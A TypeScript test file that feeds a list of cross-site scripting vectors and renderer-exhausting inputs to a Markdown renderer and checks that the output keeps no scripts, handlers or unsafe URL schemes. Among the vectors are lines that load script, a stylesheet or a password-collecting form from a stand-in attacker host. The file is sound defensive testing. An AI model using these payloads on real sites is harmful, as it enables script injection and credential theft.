import { expect } from 'chai';
import { Markdown } from '../../../application/markdown/markdown.ts';

/** Ways in which texts have carried scripts into pages: tags, handlers, schemes, styles, broken markup, our own marks. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=password name=p>',
  '<textarea autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<a href="x" data-remote="true" data-method="delete">x</a>',
  '<div data-lines="1-2" class="task-list-item-checkbox">x</div>',
  '<a id="application" name="boot">x</a>',
  '<p class="modal fade in">x</p>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y)',
  '![x](y "z\\" onerror=\\"alert(1)")',
  '[x](y "z\\" onclick=\\"alert(1)")',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '~"><script>alert(1)</script>"',
  '%"<img src=x onerror=alert(1)>"',
  '#1"><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<title><script>alert(1)</script></title>',
  '\uE0000\uE001<script>alert(1)</script>\uE0001\uE001',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '- [ ] <script>alert(1)</script>',
  '<b title="&quot;><script>alert(1)</script>">x</b>',
];

const forbiddenTags =
  /<\s*\/?\s*(?:script|style|iframe|object|embed|applet|base|meta|link|form|button|textarea|select|svg|math|video|audio|body|marquee|title|noscript|xmp)\b/i;
const tag = /<[a-z][^>]*>/gi;

/** As a browser reads it: control characters and spaces dropped. Another host without a scheme counts as one. */
function schemeOf(address: string): string | null {
  const plain = Array.from(address)
    .filter((character) => character > ' ')
    .join('');
  return plain.startsWith('//') ? '//' : (/^([a-z][a-z0-9+.-]*):/i.exec(plain)?.[1]?.toLowerCase() ?? null);
}

describe('Hostile Markdown', () => {
  const markdown = new Markdown('https://milepost.example');

  for (const vector of vectors) {
    it(`renders without scripts: ${JSON.stringify(vector).slice(0, 90)}`, () => {
      for (const { html } of [markdown.render(vector), markdown.renderTitle(vector)]) {
        expect(html).not.to.match(forbiddenTags);
        for (const [opened] of html.matchAll(tag)) {
          const attributes = [...opened.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/gi)];
          for (const [, name = '', value = ''] of attributes) {
            expect(name, opened).not.to.match(/^on|^style$|^data-|^name$|^srcdoc$|^action$|^xlink/i);
            if (name === 'href') expect(schemeOf(value), opened).to.be.oneOf(['http', 'https', 'mailto', null]);
            if (name === 'src') expect(schemeOf(value), opened).to.be.oneOf(['http', 'https', null]);
            if (name === 'id') expect(value, opened).to.match(/^user-content-/);
            if (name === 'class') expect(value, opened).to.match(/^(?:hljs[\w-]*|language-\S+|task-list-item)$/);
            if (name === 'type') expect(value, opened).to.equal('checkbox');
          }
        }
      }
    });
  }

  it('is detected by the checks of this test', () => {
    expect('<script>').to.match(forbiddenTags);
    expect([...'<a onclick="x">'.matchAll(tag)]).to.have.length(1);
  });

  it('cannot exhaust the renderer', () => {
    const texts = [
      '>'.repeat(20_000),
      '['.repeat(20_000),
      '*a '.repeat(20_000),
      '`'.repeat(10_000) + 'a',
      '- '.repeat(5_000),
      '<div>'.repeat(5_000),
      'a/'.repeat(50_000) + '#',
      'a.b-'.repeat(50_000) + '#1',
      '~"'.repeat(20_000),
      '&'.repeat(50_000),
    ];
    for (const text of texts) expect(markdown.render(text).html).to.be.a('string');
  }).timeout(20_000);
});
